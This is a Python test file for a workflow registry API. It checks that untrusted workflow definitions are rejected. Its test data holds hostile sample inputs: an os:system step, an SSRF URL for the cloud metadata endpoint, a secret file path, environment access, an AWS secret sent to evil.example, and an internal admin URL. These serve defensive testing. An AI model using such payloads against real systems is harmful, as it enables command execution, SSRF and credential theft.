"""The workflow registry: definitions from the API are validated as untrusted, kept by digest,
and run by name, under the trust policy, never as local code.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from apilib import eventually, register

from podium.store.base import Store

SHELL: dict[str, Any] = {
    "name": "shell",
    "steps": {"pwn": {"kind": "python", "call": "os:system"}},
}


async def test_a_definition_calling_os_system_is_422_naming_the_step_and_never_runs(
    client: httpx.AsyncClient, store: Store
) -> None:
    response = await client.post("/v1/workflows", json={"definition": SHELL})
    assert response.status_code == 422
    assert any("steps.pwn" in p for p in response.json()["problems"])
    assert await store.list_registered() == []
    started = await client.post("/v1/runs", json={"workflow_name": "shell"})
    assert started.status_code == 404
    assert await store.list_runs() == []


async def test_a_registered_run_is_untrusted_and_attributed_to_its_key(
    client: httpx.AsyncClient, store: Store
) -> None:
    quick = {"name": "quick", "steps": {"one": {"kind": "sim", "output": 1}}}
    registered = await register(client, quick)
    assert registered["created"] and registered["registered_by"].startswith("key:")
    shown = (await client.get("/v1/workflows/quick")).json()
    assert shown["digest"] == registered["digest"] and shown["definition"]["name"] == "quick"
    assert [w["name"] for w in (await client.get("/v1/workflows")).json()["workflows"]] == [
        "quick"
    ]
    run_id = (await client.post("/v1/runs", json={"workflow_name": "quick"})).json()["run_id"]
    row = await store.get_run(run_id)
    assert row is not None and row.trusted is False
    audit = await store.audit_entries(0, 100, actor="key:")
    assert [e.event.event_type for e in audit][:2] == ["audit.workflow.register", "run.queued"]
    queued = [e for _, e in await store.list_events(run_id) if e.event_type == "run.queued"]
    assert queued[0].actor == registered["registered_by"]


async def test_an_inline_definition_is_refused_with_a_pointer_to_the_registry(
    client: httpx.AsyncClient, store: Store
) -> None:
    response = await client.post("/v1/runs", json={"workflow": SHELL})
    assert response.status_code == 422
    assert "POST /v1/workflows" in response.json()["message"]
    assert await store.list_runs() == []


WAITER: dict[str, Any] = {
    "name": "waiter",
    "steps": {"approve": {"kind": "wait", "signal": "go", "timeout": "1h"},
              "after": {"kind": "wait", "signal": "never", "needs": ["approve"]}},
}


async def _events_of(store: Store, run_id: str, wanted: str) -> list[Any]:
    async def found() -> list[Any]:
        return [e for _, e in await store.list_events(run_id) if e.event_type == wanted]

    async def landed() -> bool:
        return bool(await found())

    await eventually(landed)
    return await found()


async def test_cancel_and_signal_over_the_api_name_their_actor(
    client: httpx.AsyncClient, store: Store
) -> None:
    await register(client, WAITER)
    run_id = (await client.post("/v1/runs", json={"workflow_name": "waiter"})).json()["run_id"]
    signalled = await client.post(f"/v1/runs/{run_id}/signals/go", json={"ok": True})
    assert signalled.status_code == 202
    (signal,) = await _events_of(store, run_id, "audit.run.signal")
    await _events_of(store, run_id, "agent.task.waiting")
    assert (await client.post(f"/v1/runs/{run_id}/cancel")).status_code == 202
    (cancel,) = await _events_of(store, run_id, "audit.run.cancel")
    (stopping,) = await _events_of(store, run_id, "run.stopping")
    for event in (signal, cancel):
        assert event.actor.startswith("key:")
        assert event.payload["role"] == "admin" and event.payload["client"]
    assert stopping.actor == cancel.actor and cancel.actor in stopping.payload["reason"]


@pytest.mark.parametrize(("step", "field"), [
    ({"kind": "http", "url": "http://169.254.169.254/latest/meta-data"}, "url"),
    ({"kind": "workflow", "workflow": "/etc/podium/secret-pipeline.yaml"}, "workflow"),
    ({"kind": "sim", "output": {"env": "{{ env }}"}}, "output"),
    ({"kind": "llm", "model": "gpt-4o-mini", "prompt": "hi", "api_key_env": "AWS_SECRET",
      "base_url": "https://evil.example/v1"}, "api_key_env"),
])
async def test_attacks_in_a_definition_are_refused_naming_the_step_and_field(
    client: httpx.AsyncClient, store: Store, step: dict[str, Any], field: str
) -> None:
    definition = {"name": "attack", "steps": {"s": step}}
    response = await client.post("/v1/workflows", json={"definition": definition})
    assert response.status_code == 422
    assert any(f"steps.s.{field}" in p for p in response.json()["problems"]), response.json()
    assert await store.list_registered() == []


async def test_an_untrusted_run_cannot_reach_an_internal_address_through_an_input(
    client: httpx.AsyncClient, store: Store
) -> None:
    """The URL is known only at run time: the step fails before anything is sent."""
    hits: list[str] = []

    class Hit(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hit)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        fetch = {"name": "fetch", "inputs": {"url": {"type": "string"}},
                 "steps": {"get": {"kind": "http", "url": "{{ inputs.url }}",
                                   "retry": {"attempts": 1}}}}
        await register(client, fetch)
        target = f"http://127.0.0.1:{server.server_address[1]}/admin"
        started = await client.post(
            "/v1/runs", json={"workflow_name": "fetch", "inputs": {"url": target}}
        )
        run_id = started.json()["run_id"]
        await _events_of(store, run_id, "run.completed")
        summary = (await client.get(f"/v1/runs/{run_id}")).json()
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert summary["status"] == "failed"
    assert "127.0.0.1" in summary["steps"]["get"]["error"]
    assert hits == []
